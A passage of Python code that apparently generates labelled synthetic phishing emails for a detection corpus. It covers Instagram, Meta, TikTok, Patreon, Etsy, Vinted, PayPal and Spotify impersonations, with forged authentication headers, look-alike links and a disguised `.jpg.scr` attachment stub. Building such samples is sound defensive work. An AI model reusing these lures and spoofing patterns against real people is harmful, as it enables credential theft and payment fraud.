        f"Message-ID: {gmail_msgid(seed)}",
        f"Subject: {enc('Notificação extrajudicial - violação de direitos autorais (@mari.souza.art)')}",
        f"To: {rcpt}",
    ]
    body = mixed(f"000000000000{hx(seed + 'mx', 16)}", alt(seed, plain, gmail_html(paras)),
                 attachment("application/zip", "Provas_violacao_direitos_autorais.zip", archive))
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), body)


@sample("malware", "phish", "etsy-custom-order-photos-scr",
        "'Custom order' inquiry to an Etsy seller from a Gmail 'buyer', attaching 'reference photos' in a zip where one "
        "file is a screensaver executable with a double .jpg.scr extension next to a real photo.")
def etsy_reference_scr():
    seed = "b31-etsyscr"
    when = utc("2025-04-14 18:27:33")
    rcpt = "thecozythimble.shop@outlook.com"
    sender = "rachel.donovan.home@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    archive = files.zip_archive([
        ("reference photos/photo_2025-04-14_18-22-31.jpg", files.photo_jpeg(7)),
        ("reference photos/photo_2025-04-14_18-22-47.jpg.scr", files.pe_stub() + b"\x00" * 2048),
    ])
    paras = [
        "Hi there!", "",
        "I found your shop on Etsy and I love your embroidered pet portraits. I'd like to order a custom one of my two "
        "dogs for my mom's birthday (hoop size 8 inch if possible).", "",
        "I put the reference photos in the attached zip since they were too big to send through Etsy messages. "
        "Could you take a look and tell me the price and how long it would take? I can pay extra for fast shipping.", "",
        "Thank you so much!", "Rachel",
    ]
    plain = "\n".join(paras) + "\n"
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Rachel Donovan <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0400')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Custom pet portrait order - reference photos",
        f"To: {rcpt}",
    ]
    body = mixed(f"000000000000{hx(seed + 'mx', 16)}", alt(seed, plain, gmail_html(paras)),
                 attachment("application/x-zip-compressed", "reference photos.zip", archive))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# attacks: social media, creators, sellers
# ============================================================================================

@sample("phishing", "phish", "instagram-copyright-google-forms",
        "Instagram 'copyright infringement - account will be disabled in 24 hours' notice from a Gmail account named "
        "Meta Pro Support, linking to a Google Forms page that asks for the username, password and 2FA code.")
def instagram_copyright_forms():
    seed = "b31-igforms"
    when = utc("2024-09-18 04:33:15")
    rcpt = "brianna.cole.fit@icloud.com"
    sender = "metapro.copyrightcenter@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    url = "https://docs.google.com/forms/d/e/1FAIpQLSc8vT3kPq2mXw7LrN4bY9hJ6fD1sZ0aG5uKcE2oV8iR3tWqYg/viewform?usp=sf_link"
    paras = [
        "<b>Copyright Infringement Notice</b>", "",
        "Hello @brianna.cole.fit,", "",
        "We have received a complaint that a recent post on your Instagram account infringes the copyright of another "
        "party (Ref: IG-CR-77412093). Under our Terms of Use, accounts with repeated violations are permanently disabled.", "",
        "If you think this complaint is a mistake, you must complete the appeal form within <b>24 hours</b>. "
        "Otherwise your account will be disabled and cannot be recovered.", "",
        f'<a href="{url}">Appeal the decision</a>', "",
        "Thanks,", "Instagram Copyright Team", "Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025",
    ]
    plain = ("Copyright Infringement Notice\n\nHello @brianna.cole.fit,\n\nWe have received a complaint that a recent post on "
             "your Instagram account infringes the copyright of another party (Ref: IG-CR-77412093).\n\nIf you think this "
             "complaint is a mistake, you must complete the appeal form within 24 hours.\n\n"
             f"Appeal the decision: {url}\n\nThanks,\nInstagram Copyright Team\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Meta Pro Support <{sender}>",
        f"Date: {rfc(plus(when, -2), '+0000')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Copyright Infringement Notice - Your account will be disabled",
        f"To: {rcpt}",
    ]
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), alt(seed, plain, gmail_html(paras)))


@sample("phishing", "phish", "meta-verified-badge-pt-ses",
        "Portuguese 'your profile is eligible for the blue verification badge' lure sent through Amazon SES from the "
        "look-alike meta-verifiedbadge.com (DKIM/SPF/DMARC pass for it), leading to a form that harvests Instagram "
        "credentials.")
def meta_verified_pt():
    seed = "b31-metaverified"
    when = utc("2025-01-29 22:14:06")
    rcpt = "gabriel.rocha.music@gmail.com"
    dom = "meta-verifiedbadge.com"
    ip, helo, ses = ses_hops(seed, when)
    mf = f"010001{hx(seed + 'rp', 10)}-{hx(seed + 'rp2', 8)}-000000@amazonses.com"
    a = Auth(ip, helo, mf, "pass", [(dom, "x3kd7hn2", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
             "pass", "none", dom, seed)
    url = f"https://{dom}/pt-br/solicitacao?id=IG-BR-20931&amp;user=gabriel.rocha.music"
    html = html_page(f"""<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="470" cellpadding="0" cellspacing="0" border="0" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;">
<tr><td style="padding:24px 0 10px 0;"><img src="https://static.xx.fbcdn.net/rsrc.php/v3/yT/r/meta_logo.png" width="90" alt="Meta" /></td></tr>
<tr><td style="padding:10px 0;font-size:22px;color:#1c1e21;font-weight:bold;">Seu perfil pode receber o selo azul &#10004;</td></tr>
<tr><td style="padding:8px 0;font-size:15px;color:#1c1e21;line-height:22px;">
Ol&aacute;, <b>gabriel.rocha.music</b>.<br /><br />
Analisamos a atividade da sua conta do Instagram e ela atende aos requisitos do <b>Meta Verified</b> para criadores de conte&uacute;do. Contas verificadas recebem o selo azul, prote&ccedil;&atilde;o contra falsifica&ccedil;&atilde;o e suporte priorit&aacute;rio.<br /><br />
Para concluir, confirme os dados da sua conta em at&eacute; <b>48 horas</b>. Ap&oacute;s esse prazo a solicita&ccedil;&atilde;o ser&aacute; cancelada.</td></tr>
<tr><td style="padding:18px 0;"><a href="{url}" style="background:#0095f6;color:#ffffff;padding:10px 22px;border-radius:8px;text-decoration:none;font-weight:bold;font-size:14px;">Confirmar verifica&ccedil;&atilde;o</a></td></tr>
<tr><td style="padding:20px 0;font-size:11px;color:#8a8d91;border-top:1px solid #e5e5e5;">&copy; Meta. Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025<br />Esta mensagem foi enviada para {rcpt}.</td></tr>
</table></td></tr></table></body>""", "Meta Verified")
    plain = ("Seu perfil pode receber o selo azul\n\nOlá, gabriel.rocha.music.\n\nSua conta do Instagram atende aos requisitos "
             "do Meta Verified. Confirme os dados da sua conta em até 48 horas.\n\n"
             f"Confirmar verificação: https://{dom}/pt-br/solicitacao?id=IG-BR-20931&user=gabriel.rocha.music\n\n© Meta\n")
    headers = [
        *ses,
        dkim(dom, "x3kd7hn2", seed, when, h="From:To:Subject:MIME-Version:Content-Type:Message-ID:Date"),
        f"From: Meta Verified <no-reply@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Parabéns! Seu perfil é elegível para o selo de verificação')}",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(seed, when)}",
        f"Date: {rfc(when)}",
        f"Feedback-ID: ::1.us-east-1.{rnd(seed + 'fb', 43, B64)}=:AmazonSES",
        f"X-SES-Outgoing: {when:%Y.%m.%d}-{ip}",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 1), a), headers), body)


@sample("phishing", "phish", "tiktok-copyright-es-pagesdev",
        "Spanish TikTok 'tu cuenta será suspendida por infracción de derechos de autor' notice sent from a hijacked "
        "Mexican business mailbox, linking to a Cloudflare pages.dev appeal page that steals TikTok logins.")
def tiktok_es():
    seed = "b31-tiktok-es"
    when = utc("2025-08-04 01:52:40")
    rcpt = "valeria.mtz.dance@hotmail.com"
    dom = "vallartaeventos.com.mx"
    a = Auth("162.241.62.118", "box5127.bluehost.com", f"contacto@{dom}", "pass", [(dom, "default", "pass")], None,
             header_from=dom, seed=seed)
    url = "https://tiktok-centro-apelaciones.pages.dev/?u=valeria.mtz.dance&amp;c=TT-ES-558213"
    html = html_page(f"""<body style="margin:0;background:#f8f8f8;">
<div style="max-width:560px;margin:0 auto;background:#ffffff;font-family:TikTokFont,Arial,Tahoma,sans-serif;padding:32px;">
<img src="https://sf16-website-login.neutral.ttwstatic.com/obj/tiktok_web_login_static/tiktok/webapp/main/webapp-desktop/8152caf0c8e8bc67ae0d.png" width="120" alt="TikTok" />
<h2 style="font-size:20px;color:#161823;">Aviso de infracci&oacute;n de derechos de autor</h2>
<p style="font-size:15px;color:#161823;line-height:22px;">Hola @valeria.mtz.dance:</p>
<p style="font-size:15px;color:#161823;line-height:22px;">Uno de tus videos recientes ha sido denunciado por usar m&uacute;sica protegida sin licencia. Debido a varias infracciones, tu cuenta ser&aacute; <b>suspendida de forma permanente</b> en las pr&oacute;ximas 24 horas.</p>
<p style="font-size:15px;color:#161823;line-height:22px;">Si crees que se trata de un error, puedes presentar una apelaci&oacute;n:</p>
<p style="text-align:center;margin:28px 0;"><a href="{url}" style="background:#fe2c55;color:#ffffff;padding:12px 32px;border-radius:4px;text-decoration:none;font-weight:bold;">Apelar ahora</a></p>
<p style="font-size:12px;color:#8a8b91;">Equipo de TikTok<br />Este correo se gener&oacute; autom&aacute;ticamente, no respondas a este mensaje.</p>
</div></body>""", "TikTok")
    plain = ("Aviso de infracción de derechos de autor\n\nHola @valeria.mtz.dance:\n\nUno de tus videos recientes ha sido "
             "denunciado por usar música protegida sin licencia. Tu cuenta será suspendida de forma permanente en las "
             "próximas 24 horas.\n\nApelar ahora: https://tiktok-centro-apelaciones.pages.dev/?u=valeria.mtz.dance&c=TT-ES-558213\n\n"
             "Equipo de TikTok\n")
    headers = [
        f"Received: from [102.88.34.19] (port=60221 helo=[192.168.0.104])\n\tby box5127.bluehost.com with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
        f"\t(Exim 4.96.2)\n\t(envelope-from <contacto@{dom}>)\n\tid 1uiq7d-000Ahq-0K\n\tfor {rcpt};\n\t{rfc(plus(when, -1), '-0600')}",
        dkim(dom, "default", seed, when, h="Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To"),
        f"Date: {rfc(when, '-0600')}",
        f"From: TikTok <contacto@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Tu cuenta será suspendida: infracción de derechos de autor')}",
        f"Message-ID: <{rnd(seed + 'mid', 40)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        "X-AntiAbuse: Primary Hostname - box5127.bluehost.com",
        f"X-Authenticated-Sender: box5127.bluehost.com: contacto@{dom}",
    ]
    body = Multi("alternative", f"b1=_{rnd(seed + 'b', 43)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("phishing", "phish", "meta-ads-restricted-salesforce",
        "Meta Business 'your ad account has been restricted' notice sent through Salesforce's mail servers (DKIM, SPF and "
        "DMARC pass for salesforce.com), with a Netlify-hosted fake appeal page that collects Facebook credentials "
        "and 2FA codes from a small shop running ads.")
def meta_ads_salesforce():
    seed = "b31-metasf"
    when = utc("2025-05-06 16:20:51")
    rcpt = "lunaleaf.candles@gmail.com"
    ip = "13.110.74.209"
    helo = "smtp09-ph2-sp4.mta.salesforce.com"
    mf = f"noreply=salesforce.com__0-{rnd(seed + 'sfb', 12)}{num(seed + 'sfn', 10**9, 10**10)}@{rnd(seed + 'sfb2', 22).lower()}.bnc.salesforce.com"
    a = Auth(ip, helo, mf, "pass", [("salesforce.com", "sf112018", "pass")], "pass", "reject", "salesforce.com", seed)
    url = "https://meta-business-appeal-center.netlify.app/case/1982450331?lang=en"
    html = html_page(f"""<body style="margin:0;padding:0;background:#f0f2f5;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f0f2f5"><tr><td align="center" style="padding:20px 0;">
<table width="520" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="font-family:Helvetica,Arial,sans-serif;border-radius:6px;">
<tr><td style="padding:24px 32px 8px 32px;"><img src="https://static.xx.fbcdn.net/rsrc.php/v4/yO/r/Meta_for_Business_logo.png" width="140" alt="Meta for Business" /></td></tr>
<tr><td style="padding:8px 32px;font-size:20px;font-weight:bold;color:#1c2b33;">Your ad account has been restricted</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:21px;color:#1c2b33;">
Hi,<br /><br />
We reviewed your ad account <b>Luna Leaf Candles (ID: 1982450331)</b> and found activity that does not follow our Advertising Standards. As a result, your ability to run ads has been restricted and active campaigns were paused.<br /><br />
If you think this is a mistake, you can request another review. Requests must be submitted within 24 hours, otherwise the restriction becomes permanent and the linked Page may be unpublished.</td></tr>
<tr><td style="padding:16px 32px 24px 32px;"><a href="{url}" style="background:#0866ff;color:#ffffff;padding:10px 20px;border-radius:6px;font-size:14px;font-weight:bold;text-decoration:none;display:inline-block;">Request review</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#65676b;border-top:1px solid #e4e6eb;">Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025<br />This message was sent to {rcpt}.</td></tr>
</table></td></tr></table></body>""", "Meta for Business")
    plain = ("Your ad account has been restricted\n\nWe reviewed your ad account Luna Leaf Candles (ID: 1982450331) and found "
             "activity that does not follow our Advertising Standards.\n\nRequest review within 24 hours: "
             f"{url}\n\nMeta Platforms, Inc.\n")
    mid = f"<{rnd(seed + 'sfm', 4)}{'0' * 48}{rnd(seed + 'sfm2', 24)}@sfdc.net>"
    headers = [
        dkim("salesforce.com", "sf112018", seed, when, h="Date:From:To:Subject:MIME-Version:Content-Type"),
        f"Received: from [10.232.{num(seed + 'r1', 10, 99)}.{num(seed + 'r2', 10, 250)}] ([10.232.{num(seed + 'r1', 10, 99)}.{num(seed + 'r2', 10, 250)}:{num(seed + 'r3', 30000, 60000)}] "
        f"helo=na{num(seed + 'na', 100, 230)}-app1-{num(seed + 'na2', 1, 40)}-ph2.ops.sfdc.net)\n\tby mx2-ph2-sp4.mta.salesforce.com (envelope-from <{mf}>)\n"
        f"\t(ecelerity 4.2.38.62368 r(Core:release/4.2.38.0)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384\n"
        f"\tsubject=\"/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ph2;2:ph2-sp4;3:na{num(seed + 'na', 100, 230)};4:prod/CN=na{num(seed + 'na', 100, 230)}-app1-{num(seed + 'na2', 1, 40)}-ph2.ops.sfdc.net\")\n"
        f"\tid 7B/{hx(seed + 'ec', 2).upper()}-{num(seed + 'ec2', 10000, 99999)}-{hx(seed + 'ec3', 8).upper()}; {rfc(plus(when, -1))}",
        f"Date: {rfc(when)}",
        "From: Meta for Business <noreply@salesforce.com>",
        f"To: \"{rcpt}\" <{rcpt}>",
        f"Message-ID: {mid}",
        "Subject: Your ad account has been restricted - Case #1982450331",
        "MIME-Version: 1.0",
        "X-Priority: 3",
        "X-SFDC-LK: 00D8c00000A1rQm",
        "X-SFDC-User: 0058c00000BkQ3x",
        "X-Sender: postmaster@salesforce.com",
        "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
        "X-SFDC-TLS-NoRelay: 1",
        f"X-SFDC-Binding: {rnd(seed + 'bind', 16)}",
        "X-SFDC-EmailCategory: apiSingleMail",
        "X-SFDC-Interface: internal",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "patreon-payout-hold-postmark",
        "Patreon 'your payout is on hold - verify your tax and payout details' mail sent with Postmark from the "
        "look-alike patreon-creators.com (passes its own checks), linking to a clone of the Patreon login.")
def patreon_payout():
    seed = "b31-patreon"
    when = utc("2025-02-03 14:07:22")
    rcpt = "inkandembers.art@gmail.com"
    dom = "patreon-creators.com"
    ip = f"50.31.156.{num(seed + 'pm', 100, 130)}"
    a = Auth(ip, f"mta{num(seed + 'pmh', 100, 250)}a-ord.mtasv.net", f"pm_bounces@pm-bounces.{dom}", "pass",
             [(dom, "20250112pm", "pass"), ("pm.mtasv.net", "pm20240807", "pass")], "pass", "none", dom, seed)
    url = f"https://www.{dom}/login?ru=%2Fsettings%2Fpayouts%3Fhold%3DTX-40417"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<div style="max-width:560px;margin:0 auto;padding:32px 24px;font-family:'Aktiv Grotesk',Helvetica,Arial,sans-serif;color:#000000;">
<img src="https://c5.patreon.com/external/logo/downloads_wordmark_black.png" width="110" alt="Patreon" />
<h1 style="font-size:24px;margin:28px 0 12px 0;">Your January payout is on hold</h1>
<p style="font-size:16px;line-height:24px;">Hi Ink &amp; Embers,</p>
<p style="font-size:16px;line-height:24px;">We couldn't release your payout of <b>$1,284.60</b> because your tax information (W-8BEN) and payout method need to be re-verified after our recent compliance update.</p>
<p style="font-size:16px;line-height:24px;">Please confirm your details within <b>5 days</b>. After that, funds will be returned to your patrons and your page may be limited.</p>
<p style="margin:30px 0;"><a href="{url}" style="background:#000000;color:#ffffff;padding:14px 26px;border-radius:24px;text-decoration:none;font-size:15px;font-weight:bold;">Verify payout details</a></p>
<p style="font-size:13px;color:#706c64;">Patreon, Inc. &bull; 600 Townsend Street, Suite 500, San Francisco, CA 94103</p>
</div>
<img src="https://pm-link.{dom}/open?t={rnd(seed + 'o', 40)}" width="1" height="1" alt="" /></body>""", "Patreon")
    plain = ("Your January payout is on hold\n\nHi Ink & Embers,\n\nWe couldn't release your payout of $1,284.60 because your "
             "tax information (W-8BEN) and payout method need to be re-verified.\n\nVerify payout details: "
             f"https://www.{dom}/login?ru=%2Fsettings%2Fpayouts%3Fhold%3DTX-40417\n\nPatreon, Inc.\n")
    pmid = uuid(seed + "pmid")
    headers = [
        dkim("pm.mtasv.net", "pm20240807", seed + "pm", when, h="Date:From:To:Subject:Message-Id:Mime-Version:Content-Type:Feedback-ID"),
        dkim(dom, "20250112pm", seed, when, h="Date:From:To:Subject:Message-Id:Mime-Version:Content-Type"),
        f"Received: from mta{num(seed + 'pmh', 100, 250)}a-ord.mtasv.net (localhost [127.0.0.1])\n\tby mta{num(seed + 'pmh', 100, 250)}a-ord.mtasv.net "
        f"(Postfix) with ESMTP id 4Yn{rnd(seed + 'q', 7)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0500')}",
        f"X-PM-Message-Id: {pmid}",
        "X-PM-RCPT: |bTB8MTAwMzk5NnwzNTc1MzY0fGlua2FuZGVtYmVycy5hcnRAZ21haWwuY29t|",
        "X-PM-Message-Options: v1;1.YdJgRQ0sMyQLkCeyhNbtqg.lgJ8m6wdpNDO8Xl0OZV0dX6Y9cB3xF2k",
        f"Date: {rfc(when, '-0500')}",
        f"From: Patreon <payouts@{dom}>",
        f"To: {rcpt}",
        f"Message-Id: <{pmid}@mtasv.net>",
        "Subject: Action required: your payout is on hold",
        "MIME-Version: 1.0",
        "X-PM-Tag: payout-hold",
        f"Feedback-ID: s{num(seed + 'fid', 1000000, 9999999)}-_:s{num(seed + 'fid', 1000000, 9999999)}:a{num(seed + 'fid2', 100000, 999999)}:postmark",
        "X-Complaints-To: abuse@postmarkapp.com",
        "X-Job: 40417_3575364",
    ]
    body = Multi("alternative", f"mk3-{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "etsy-buyer-paid-fake-payments",
        "Fake 'Etsy Payments: your buyer has paid, verify your account to receive the funds' notice sent from a Gmail "
        "account during a scam buyer conversation, linking to a look-alike page that harvests card details.")
def etsy_buyer_paid():
    seed = "b31-etsypaid"
    when = utc("2025-10-21 20:44:09")
    rcpt = "wildfernprints@gmail.com"
    sender = "etsy.payments.sellerteam@gmail.com"
    out, a = gmail_out(seed, when, rcpt, sender)
    url = "https://etsy-seller-payments.com/release/3487721935?s=wildfernprints"
    paras = [
        '<div style="font-family:Graphik Webfont,-apple-system,Helvetica Neue,Arial,sans-serif;max-width:520px;">'
        '<p style="color:#f1641e;font-size:28px;font-family:Georgia,serif;margin:0 0 12px 0;">Etsy</p>'
        '<h2 style="font-size:20px;color:#222;">Your buyer has completed the payment</h2>'
        '<p style="font-size:15px;color:#222;line-height:22px;">Hello WildFernPrints,</p>'
        '<p style="font-size:15px;color:#222;line-height:22px;">The buyer <b>kaylee_m92</b> has paid <b>$185.00 USD</b> for order '
        '<b>#3487721935</b> (Botanical Print Set, A3). The funds are held by Etsy Payments until you confirm your seller '
        'account for secure payouts.</p>'
        '<p style="font-size:15px;color:#222;line-height:22px;">To receive the money, please verify your card linked to the '
        'shop. This is a one-time step required for new international buyers.</p>'
        f'<p style="margin:26px 0;"><a href="{url}" style="background:#222;color:#fff;padding:12px 24px;border-radius:24px;'
        'text-decoration:none;font-weight:bold;">Receive funds</a></p>'
        '<p style="font-size:12px;color:#595959;">Etsy Payments Team &middot; Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201</p></div>',
    ]
    plain = ("Etsy\n\nYour buyer has completed the payment\n\nHello WildFernPrints,\n\nThe buyer kaylee_m92 has paid $185.00 USD "
             "for order #3487721935. The funds are held by Etsy Payments until you confirm your seller account.\n\n"
             f"Receive funds: {url}\n\nEtsy Payments Team\n")
    headers = [
        *out,
        "MIME-Version: 1.0",
        f"From: Etsy Payments <{sender}>",
        f"Date: {rfc(plus(when, -2), '-0400')}",
        f"Message-ID: {gmail_msgid(seed)}",
        "Subject: Payment received for order #3487721935 - action required",
        f"To: {rcpt}",
    ]
    return message(hdr(deliver(rcpt, plus(when, 1), a, google_sender=True), headers), alt(seed, plain, gmail_html(paras)))


@sample("phishing", "phish", "vinted-fr-subdomain-trick",
        "French 'Vinted: votre article a été acheté, confirmez pour recevoir le paiement' mail whose link uses the "
        "vinted.fr-securepay.com subdomain trick to reach a page that steals the seller's bank card.")
def vinted_fr():
    seed = "b31-vinted"
    when = utc("2025-03-17 11:36:27")
    rcpt = "theo.marchand@outlook.fr"
    dom = "fr-securepay.com"
    a = Auth("185.196.9.58", "mail.fr-securepay.com", f"notification@{dom}", "pass", [(dom, "mail", "pass")], "pass",
             "none", dom, seed)
    url = "https://vinted.fr-securepay.com/transaction/8841203/recevoir?lang=fr"
    html = html_page(f"""<body style="margin:0;background:#f2f2f2;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 0;">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Maison Neue',Helvetica,Arial,sans-serif;">
<tr><td style="padding:24px 32px;"><span style="color:#007782;font-size:30px;font-weight:bold;letter-spacing:-1px;">Vinted</span></td></tr>
<tr><td style="padding:0 32px;color:#171717;font-size:20px;font-weight:bold;">Ton article a &eacute;t&eacute; achet&eacute; !</td></tr>
<tr><td style="padding:12px 32px;color:#4d4d4d;font-size:15px;line-height:22px;">
Bonjour theo_mrch,<br /><br />
Bonne nouvelle : <b>Veste Carhartt Detroit vintage</b> a &eacute;t&eacute; achet&eacute;e par <b>camille.b</b> pour <b>68,00 &euro;</b>.<br /><br />
Le paiement a &eacute;t&eacute; effectu&eacute; et est conserv&eacute; par Vinted. Pour recevoir l'argent sur ton compte bancaire, confirme tes coordonn&eacute;es de paiement. Sans confirmation sous 24 h, la transaction sera annul&eacute;e et l'acheteur rembours&eacute;.</td></tr>
<tr><td style="padding:16px 32px 28px 32px;"><a href="{url}" style="background:#007782;color:#ffffff;padding:12px 24px;border-radius:4px;text-decoration:none;font-size:15px;">Recevoir le paiement</a></td></tr>
<tr><td style="padding:16px 32px;color:#999999;font-size:11px;">Vinted UAB, Svitrigailos g. 13, Vilnius, Lituanie</td></tr>
</table></td></tr></table></body>""", "Vinted")
    plain = ("Ton article a été acheté !\n\nBonjour theo_mrch,\n\nVeste Carhartt Detroit vintage a été achetée par camille.b "
             "pour 68,00 €.\nPour recevoir l'argent, confirme tes coordonnées de paiement sous 24 h.\n\n"
             f"Recevoir le paiement : {url}\n\nVinted UAB\n")
    headers = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.fr-securepay.com (Postfix) with ESMTPA id 4ZGV{rnd(seed + 'q', 6)}\n"
        f"\tfor <{rcpt}>; {rfc(plus(when, -1), '+0100')}",
        dkim(dom, "mail", seed, when),
        "MIME-Version: 1.0",
        f"Date: {rfc(when, '+0100')}",
        f"From: Vinted <notification@{dom}>",
        f"To: {rcpt}",
        f"Subject: {enc('Ton article « Veste Carhartt Detroit vintage » a été acheté')}",
        f"Message-ID: <{uuid(seed)}@{dom}>",
    ]
    body = Multi("alternative", f"=-{rnd(seed + 'b', 22, B64)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "paypal-depop-overpayment-outlook",
        "Fake PayPal 'you've received $320 - funds on hold until you send the tracking number' notice to a Depop "
        "seller, sent from a free Outlook.com account with a Reply-To to the scam 'buyer' (advance-fee/overpayment "
        "fraud, no link).")
def paypal_depop():
    seed = "b31-paypaldepop"
    when = utc("2025-06-09 19:12:44")
    rcpt = "maddie.thrifts@icloud.com"
    sender = "service.paypal.transfer@outlook.com"
    out, a, mid = outlook_consumer_out(seed, when, sender)
    html = html_page("""<body style="margin:0;background:#f5f7fa;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 0;">
<table width="540" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;">
<tr><td style="padding:24px 32px;color:#003087;font-size:26px;font-weight:bold;font-style:italic;">PayPal</td></tr>
<tr><td style="padding:0 32px;font-size:22px;color:#2c2e2f;">You've got money!</td></tr>
<tr><td style="padding:16px 32px;font-size:15px;line-height:22px;color:#2c2e2f;">
Hello Maddie,<br /><br />
<b>Jessica Harlan</b> sent you <b>$320.00 USD</b> for item "Vintage Levi's 501 + Y2K baby tee bundle" (Depop order).<br /><br />
The payment includes <b>$140.00 USD</b> extra for the buyer's shipping agent, which you must refund to the agent via Zelle or Cash App.<br /><br />
<b>Note:</b> This payment is on hold. For your protection as a new seller, the funds will be released to your balance as soon as you reply to this email with the <b>shipping tracking number</b> and the <b>receipt of the agent refund</b>.
</td></tr>
<tr><td style="padding:12px 32px;font-size:13px;color:#6c7378;">Transaction ID: 8HW47215KJ903584T<br />Status: Pending (awaiting seller confirmation)</td></tr>
<tr><td style="padding:20px 32px;font-size:11px;color:#6c7378;">Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></td></tr></table></body>""", "PayPal")
    plain = ("PayPal\n\nYou've got money!\n\nHello Maddie,\n\nJessica Harlan sent you $320.00 USD for item \"Vintage Levi's "
             "501 + Y2K baby tee bundle\" (Depop order).\nThe payment includes $140.00 USD extra for the buyer's shipping "
             "agent, which you must refund to the agent via Zelle or Cash App.\n\nThis payment is on hold until you reply "
             "with the shipping tracking number and the receipt of the agent refund.\n\nTransaction ID: 8HW47215KJ903584T\n")
    headers = [
        *out,
        f"From: \"service@intl.paypal.com\" <{sender}>",
        f"To: {addr('', rcpt)}",
        "Reply-To: jessica.harlan.buys@gmail.com",
        "Subject: Notification of payment received - Transaction ID 8HW47215KJ903584T",
        "Thread-Topic: Notification of payment received - Transaction ID 8HW47215KJ903584T",
        f"Thread-Index: AQHb2{rnd(seed + 'ti', 24, B64)}==",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        *ms_tail(seed, "outlook.com"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "spotify-pt-payment-workers-dev",
        "Brazilian Portuguese 'Spotify Premium: não foi possível processar seu pagamento' sent from a hacked bakery "
        "website's mailbox, linking to a Cloudflare workers.dev page that collects card data.")
def spotify_pt():
    seed = "b31-spotify-pt"
    when = utc("2025-12-02 13:58:10")
    rcpt = "joao.pedro.lima99@gmail.com"
    dom = "padariasaojorge.com.br"
    a = Auth("177.70.106.44", "mail.padariasaojorge.com.br", f"contato@{dom}", "pass", [], None, header_from=dom, seed=seed)
    url = "https://restless-sun-4f2a.premium-br-conta.workers.dev/pt-BR/conta/pagamento?ref=SPT-99431"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" border="0" style="font-family:'Spotify Circular',Helvetica,Arial,sans-serif;">
<tr><td style="padding:30px 0 20px 0;"><img src="https://i.scdn.co/image/ab67757000003b8255c25988a6ac314394d3fbf5" width="120" alt="Spotify" /></td></tr>
<tr><td style="font-size:28px;font-weight:bold;color:#181818;line-height:34px;">N&atilde;o foi poss&iacute;vel processar seu pagamento</td></tr>
<tr><td style="padding:18px 0;font-size:15px;color:#181818;line-height:23px;">
Ol&aacute;,<br /><br />
